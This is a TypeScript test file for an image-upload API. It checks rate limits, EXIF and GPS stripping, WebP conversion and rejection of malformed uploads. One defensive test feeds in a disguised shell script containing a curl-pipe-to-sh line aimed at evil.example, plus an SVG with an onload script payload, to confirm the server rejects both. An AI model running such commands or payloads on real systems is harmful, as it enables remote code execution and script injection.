import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import sharp from 'sharp';
import { beforeAll, expect, it } from 'vitest';
import { describeEachEngine } from './helpers/engines';
import { bearer, createAccount } from './helpers/accounts';
import { call } from './helpers/http';
import { uploadImage } from './helpers/upload';
import { useTestServer } from './helpers/server';
import { GUEST_UPLOAD_LIMIT } from '../src/modules/upload/routes';

/** Whether a TIFF/EXIF block (as sharp's metadata().exif gives it) has a GPS IFD pointer (tag 0x8825) in IFD0. */
function hasGpsIfd(exif: Buffer): boolean {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0') === 0 ? 6 : 0);
  const little = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  const entries = u16(ifd0);
  for (let i = 0; i < entries; i++) if (u16(ifd0 + 2 + i * 12) === 0x8825) return true;
  return false;
}

async function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 120, height: 80, channels: 3, background: '#3a7' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'TestCam', Model: 'GPS-1' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '39/1 54/1 27/1', GPSLongitudeRef: 'E', GPSLongitude: '116/1 23/1 17/1' },
    })
    .toBuffer();
}

describeEachEngine('图片上传', (engine) => {
  const server = useTestServer(engine);
  let token = '';
  const imgDir = () => path.join(server.config.dataDir, 'uploads', 'img');
  const stored = async () => (await readdir(imgDir()).catch(() => [] as string[])).sort();
  const fileOf = (url: string) => path.join(server.config.dataDir, url.replace(/^\//, ''));

  beforeAll(async () => {
    token = await server.tokenFor(await createAccount(server.db, 'uploader_01', 'abc12345'));
  });

  it('游客也能上传（原版客户端游客发布留言时先传背景图），每个地址 10 分钟 10 张；失效的 token → 401', async () => {
    const guest = await uploadImage(server, await jpegWithGps());
    expect(guest.status).toBe(200);
    expect(guest.body.result!.url).toMatch(/^\/uploads\/img\/[0-9a-f]{64}\.webp$/);
    const junk = Buffer.from('not an image');
    for (let i = 1; i < GUEST_UPLOAD_LIMIT.max; i++) expect((await uploadImage(server, junk)).status).toBe(400);
    const blocked = await uploadImage(server, await jpegWithGps());
    expect(blocked.status).toBe(429);
    // A logged-in user from the same address is counted on their own.
    expect((await uploadImage(server, junk, { token })).status).toBe(400);

    const before = await stored();
    const expired = await uploadImage(server, await jpegWithGps(), { token: 'not-a-real-token' });
    expect(expired.status).toBe(401);
    expect(await stored()).toEqual(before);
  });

  it('改名成 .png 的脚本 → 400「只支持 JPG、PNG、WEBP、GIF 图片」，不存文件', async () => {
    const before = await stored();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const response = await uploadImage(server, script, { token, filename: 'cute.png', contentType: 'image/png' });
    expect(response.status).toBe(400);
    expect(response.body).toEqual({ code: 400, message: '只支持 JPG、PNG、WEBP、GIF 图片', result: null });
    const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>');
    expect((await uploadImage(server, svg, { token, filename: 'a.svg', contentType: 'image/svg+xml' })).body.message).toBe('只支持 JPG、PNG、WEBP、GIF 图片');
    expect(await stored()).toEqual(before);
  });

  it('开头像 JPEG 但内容损坏 → 400，不存文件', async () => {
    const before = await stored();
    const broken = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 7)]);
    const response = await uploadImage(server, broken, { token, filename: 'x.jpg' });
    expect(response.status).toBe(400);
    expect(response.body.message).toBe('图片已损坏，无法读取');
    expect(await stored()).toEqual(before);
  });

  it('带 GPS 的 JPEG：存成 WebP，EXIF 全部去掉，名字是内容的 SHA-256', async () => {
    const input = await jpegWithGps();
    const inputMeta = await sharp(input).metadata();
    expect(inputMeta.exif && hasGpsIfd(inputMeta.exif)).toBe(true);

    const response = await uploadImage(server, input, { token, filename: 'holiday.jpg', contentType: 'image/jpeg' });
    expect(response.status).toBe(200);
    expect(response.body.message).toBe('上传成功');
    const url = response.body.result!.url;
    expect(url).toMatch(/^\/uploads\/img\/[0-9a-f]{64}\.webp$/);

    const bytes = await readFile(fileOf(url));
    const meta = await sharp(bytes).metadata();
    expect(meta.format).toBe('webp');
    expect(meta.exif).toBeUndefined();
    expect(meta.xmp).toBeUndefined();
    expect(bytes.includes(Buffer.from('TestCam'))).toBe(false);
    expect({ width: meta.width, height: meta.height }).toEqual({ width: 120, height: 80 });

    const served = await fetch(`${server.baseUrl}${url}`);
    expect(served.status).toBe(200);
    expect(Buffer.from(await served.arrayBuffer()).equals(bytes)).toBe(true);
  });

  it('同一张图上传两次只存一份、地址相同', async () => {
    const png = await sharp({ create: { width: 50, height: 50, channels: 4, background: '#f0a' } }).png().toBuffer();
    const first = await uploadImage(server, png, { token });
    const before = await stored();
    const second = await uploadImage(server, png, { token, filename: 'copy.png' });
    expect(second.body.result!.url).toBe(first.body.result!.url);
    expect(await stored()).toEqual(before);
  });

  it('大图长边缩到 2560，并按 EXIF 方向转正', async () => {
    // Stored landscape 3000×1000 with "rotate 90° clockwise": the picture is portrait.
    const input = await sharp({ create: { width: 3000, height: 1000, channels: 3, background: '#123' } }).jpeg().withMetadata({ orientation: 6 }).toBuffer();
    const response = await uploadImage(server, input, { token, filename: 'tall.jpg' });
    const meta = await sharp(await readFile(fileOf(response.body.result!.url))).metadata();
    expect({ width: meta.width, height: meta.height }).toEqual({ width: 853, height: 2560 });
  });

  it('GIF 动图保持动画', async () => {
    const frame = (color: string) => sharp({ create: { width: 20, height: 20, channels: 4, background: color } }).raw().toBuffer();
    const frames = Buffer.concat([await frame('#f00'), await frame('#0f0'), await frame('#00f')]);
    // Three 20×20 frames stacked vertically; pageHeight makes sharp write them as GIF frames.
    const animated = await sharp(frames, { raw: { width: 20, height: 60, channels: 4, pageHeight: 20 } }).gif({ delay: [100, 100, 100], loop: 0 }).toBuffer();
    expect((await sharp(animated, { animated: true }).metadata()).pages).toBe(3);
    const response = await uploadImage(server, animated, { token, filename: 'sticker.gif', contentType: 'image/gif' });
    const meta = await sharp(await readFile(fileOf(response.body.result!.url)), { animated: true }).metadata();
    expect(meta.format).toBe('webp');
    expect(meta.pages).toBe(3);
  });

  it('超过 5MB → HTTP 200、code 100「图片不能超过 5MB」（两个客户端都显示这句提示），不存文件', async () => {
    const before = await stored();
    const huge = Buffer.concat([await jpegWithGps(), Buffer.alloc(5 * 1024 * 1024 + 10, 1)]);
    const response = await uploadImage(server, huge, { token, filename: 'huge.jpg' });
    expect(response.status).toBe(200);
    expect(response.body).toEqual({ code: 100, message: '图片不能超过 5MB', result: null });
    expect(await stored()).toEqual(before);
  });

  it('字段名不是 file → 400「请选择要上传的图片」', async () => {
    const response = await uploadImage(server, await jpegWithGps(), { token, field: 'image' });
    expect(response.status).toBe(400);
    expect(response.body.message).toBe('请选择要上传的图片');
  });

  it('multipart 表单没有 boundary，或表单被截断 → 400 中文说明，不存文件', async () => {
    const before = await stored();
    const broken: Array<[contentType: string, body: string]> = [
      ['multipart/form-data', 'x'],
      ['multipart/form-data; boundary=zz', '--zz\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\ncut off'],
    ];
    for (const [contentType, body] of broken) {
      const response = await call(server, 'POST', '/api/upload/img', { body, headers: { ...bearer(token), 'content-type': contentType } });
      expect({ contentType, status: response.status, body: response.body }).toEqual({
        contentType,
        status: 400,
        body: { code: 400, message: '上传的表单格式不正确，请重新选择图片上传', result: null },
      });
    }
    expect(await stored()).toEqual(before);
  });

  it('同一用户 10 分钟内第 61 次 → 429', async () => {
    const busy = await server.tokenFor(await createAccount(server.db, 'busy_upload', 'abc12345'));
    const junk = Buffer.from('not an image');
    for (let i = 0; i < 60; i++) expect((await uploadImage(server, junk, { token: busy })).status).toBe(400);
    const blocked = await uploadImage(server, junk, { token: busy });
    expect(blocked.status).toBe(429);
    expect(blocked.body.message).toBe('尝试次数过多，请稍后再试');
    // Someone else still can.
    expect((await uploadImage(server, junk, { token })).status).toBe(400);
  });
});
